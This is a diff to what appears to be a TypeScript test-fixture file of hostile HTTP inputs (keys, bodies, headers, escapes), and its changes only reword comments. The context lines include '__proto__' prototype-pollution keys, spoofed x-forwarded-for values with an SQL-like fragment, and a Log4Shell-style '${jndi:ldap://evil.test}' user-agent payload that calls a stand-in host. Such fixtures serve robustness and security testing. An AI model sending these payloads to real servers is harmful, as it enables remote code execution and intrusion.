@@ -89,7 +89,7 @@ export const HOSTILE_NUMBERS: readonly number[] = [
   9_999_999_999.994,
 ];
 
-/** Keys that every object already has a meaning for, and empty ones. */
+/** Keys with a built-in meaning for every object, and empty ones. */
 export const HOSTILE_KEYS: readonly string[] = [
   '__proto__',
   'constructor',
@@ -110,7 +110,7 @@ export const HOSTILE_KEYS: readonly string[] = [
   'x'.repeat(300),
 ];
 
-/** Texts that are no JSON, or JSON that means something else than it looks like. */
+/** Texts that are not JSON, or JSON that means something else than it looks like. */
 export const HOSTILE_BODIES: readonly string[] = [
   '',
   ' ',
@@ -163,7 +163,7 @@ export const HOSTILE_TYPES: readonly string[] = [
   `application/json; ${'x'.repeat(4000)}`,
 ];
 
-/** Headers that may mean something to a server, or to a proxy before it. */
+/** Headers that may mean something to a server, or to a proxy in front of it. */
 export const HOSTILE_HEADERS: readonly (readonly [name: string, value: string])[] = [
   ['x-forwarded-for', '127.0.0.1'],
   ['x-forwarded-for', "'; select 1, fe80::1%eth0, [::1]:99999, unknown, 1.2.3.4:x"],
@@ -206,7 +206,7 @@ export const HOSTILE_HEADERS: readonly (readonly [name: string, value: string])[
   ['user-agent', `\${jndi:ldap://evil.test} ${'x'.repeat(3000)}`],
 ];
 
-/** Of a path or a query, as they are written in an address. */
+/** In a path or a query, as written in a URL. */
 export const HOSTILE_ESCAPES: readonly string[] = [
   '%',
   '%0',
